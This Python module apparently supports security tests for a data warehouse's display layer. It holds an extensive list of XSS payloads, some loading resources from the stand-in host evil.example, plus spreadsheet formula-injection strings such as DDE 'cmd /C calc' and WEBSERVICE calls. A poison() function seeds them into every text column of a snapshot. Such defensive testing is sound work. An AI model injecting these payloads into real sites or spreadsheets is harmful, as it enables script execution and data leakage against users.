"""What strangers may write: texts that would run, lead away or fetch something, and a world where they stand everywhere.

Each payload holds its own mark, ``xss<number>x``, so that a test can tell which one did what, and that it was seen.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any, Final

import duckdb

EVIL: Final = "http://evil.example"
_TEXTS: Final = (
    "<script>alert('§')</script>", "<SCRIPT SRC=//evil.example/§.js></SCRIPT>", "<img src=x onerror=alert('§')>",
    "<img src=http://evil.example/§.png>", "<svg onload=alert('§')>", "<svg><script>alert('§')</script></svg>",
    "<svg><a xlink:href=javascript:alert('§')><text y=20>§</text></a></svg>", "<svg><animate onbegin=alert('§') attributeName=x>",
    "<iframe src=javascript:alert('§')></iframe>", "<iframe srcdoc=\"<script>parent.alert('§')</script>\"></iframe>",
    "<iframe src=http://evil.example/§></iframe>", "<body onload=alert('§')>", "<details open ontoggle=alert('§')>§",
    "<input autofocus onfocus=alert('§')>", "<video><source onerror=alert('§')></video>", "<audio src=x onerror=alert('§')>",
    "<object data=http://evil.example/§></object>", "<embed src=http://evil.example/§.swf>",
    "<link rel=stylesheet href=http://evil.example/§.css>", "<style>@import 'http://evil.example/§.css';</style>",
    "<style>*{background:url(http://evil.example/§)}</style>", "<meta http-equiv=refresh content='0;url=http://evil.example/§'>",
    "<base href=http://evil.example/§/>", "<form action=http://evil.example/§><button autofocus>§</button></form>",
    "<a href=javascript:alert('§')>§</a>", "<math><mi xlink:href=\"javascript:alert('§')\">§</mi></math>",
    "<marquee onstart=alert('§')>§</marquee>", "\"><script>alert('§')</script>", "' onmouseover='alert(\"§\")' x='",
    "\" autofocus onfocus=\"alert('§')\" x=\"", "</style><script>alert('§')</script>", "</script><script>alert('§')</script>",
    "</title><script>alert('§')</script>", "</textarea><img src=x onerror=alert('§')>", "--><img src=x onerror=alert('§')>",
    "]]><img src=x onerror=alert('§')>", "<noscript><p title=\"</noscript><img src=x onerror=alert('§')>\">",
    "<template><script>alert('§')</script></template>", "<x onclick=alert('§') contenteditable autofocus tabindex=0>§",
    "![§](http://evil.example/§.png)", "[§](javascript:alert('§'))", "[§](http://evil.example/§ \"x\" onclick=alert('§'))",
    "<javascript:alert('§')>", "![§](x\"onerror=\"alert('§'))", ":red[<img src=x onerror=alert('§')>]",
    "$$\\href{javascript:alert('§')}{§}$$", "$\\includegraphics{http://evil.example/§.png}$", "{{constructor.constructor(\"alert('§')\")()}}",
    "${alert('§')} #{alert('§')} <%= alert('§') %>", "javascript:alert('§')", "data:text/html,<script>alert('§')</script>",
    "&lt;script&gt;alert('§')&lt;/script&gt;", "&#60;img src=x onerror=alert('§')&#62;", "\\u003cscript\\u003ealert('§')\\u003c/script\\u003e",
    "＜script＞alert('§')＜/script＞", "<ſcript>alert('§')</ſcript>", "\u202e<script>alert('§')</script>",
    "<scr<script>ipt>alert('§')</scr</script>ipt>", "<img/src=`x`/onerror=alert('§')>", "<<img src=x onerror=alert('§')>>",
)  # fmt: skip
_URLS: Final = (
    "javascript:alert('§')", "JaVaScRiPt:alert('§')", "java\tscript:alert('§')", " javascript:alert('§')",
    "data:text/html,<script>alert('§')</script>", "vbscript:alert('§')", "https://evil.example/§\" onmouseover=\"alert('§')",
    "https://evil.example/'><script>alert('§')</script>", "//evil.example/§",
)  # fmt: skip


def _marked(texts: tuple[str, ...], start: int) -> tuple[str, ...]:
    return tuple(text.replace("§", f"xss{number}x") for number, text in enumerate(texts, start))


PAYLOADS: Final = _marked(_TEXTS, 1)
URLS: Final = _marked(_URLS, 500)
FORMULAS: Final = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "=IMAGE(\"http://evil.example/a.png\")",
    "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=A1", "=\"a\"&\"b\"",
    "==1", "=+1", "-@x", "+46 70 123", "=SUM(1;2)", "＝1+1", "=1+1\";=2+2;\"", "'=1+1", "\"=1+1\"", ";=1+1", ",=1+1",
)  # fmt: skip

TEXT_COLUMNS: Final = frozenset(
    [
        "title",
        "title_sv",
        "title_en",
        "name",
        "name_sv",
        "name_en",
        "short_name",
        "summary_sv",
        "summary_en",
        "text_sv",
        "text_en",
        "whom_sv",
        "whom_en",
        "measured_sv",
        "measured_en",
        "why_sv",
        "why_en",
        "reason_sv",
        "reason_en",
        "note",
        "note_en",
        "about_sv",
        "about_en",
        "source_title",
        "publisher",
        "licence",
        "licence_en",
        "caveat_sv",
        "caveat_en",
        "unit",
        "unit_en",
        "table_id",
        "named",
        "party",
        "funder",
        "beneficiary",
        "label",
        "label_en",
        "label_in_source",
        "status_in_source",
        "specific_objective",
        "si_basis",
        "value_a",
        "value_b",
        "message",
        "value",
        "alias",
        "decided_why",
        "diarienummer",
        "authority",
        "shows",
        "used",
        "role",
    ]
)
"""Columns of the warehouse that hold words for people: what no rule of the program reads."""
URL_COLUMNS: Final = frozenset(("url", "source_url"))
_KEEP: Final = frozenset(
    {("mart_relation", "role"), ("mart_item_relation", "role"), ("actor_relation", "role"), ("operation_party", "role")}
)

_ASKED: Final = ("mart_cell", "mart_listed", "mart_cube", "mart_word")
"""Tables that filters are looked up in and that nothing is shown of."""


def poison(path: Path, payloads: tuple[str, ...] = PAYLOADS, urls: tuple[str, ...] = URLS) -> int:
    """Put payloads into every text column of a snapshot's every table, in turn. The number of cells that hold one."""
    cells = 0
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE TEMP TABLE hostile AS SELECT unnest($p) AS text", {"p": list(payloads)})
        columns = con.execute(
            "SELECT table_name, column_name FROM duckdb_columns() WHERE schema_name = 'main' AND NOT internal "
            "AND data_type = 'VARCHAR' AND table_name IN (SELECT table_name FROM duckdb_tables() WHERE NOT temporary)"
        ).fetchall()
        for number, (table, column) in enumerate(columns):
            if (table, column) in _KEEP or column not in TEXT_COLUMNS | URL_COLUMNS or table.startswith(_ASKED):
                continue
            chosen: dict[str, Any] = {"p": list(urls if column in URL_COLUMNS else payloads), "n": number}
            try:
                done = con.execute(
                    f'UPDATE "{table}" SET "{column}" = $p[1 + (rowid + $n) % len($p)] WHERE "{column}" IS NOT NULL',
                    chosen,
                ).fetchone()
            except duckdb.ConstraintException:  # a word of the schema's own, which a source cannot fill
                continue
            cells += done[0] if done else 0
    return cells
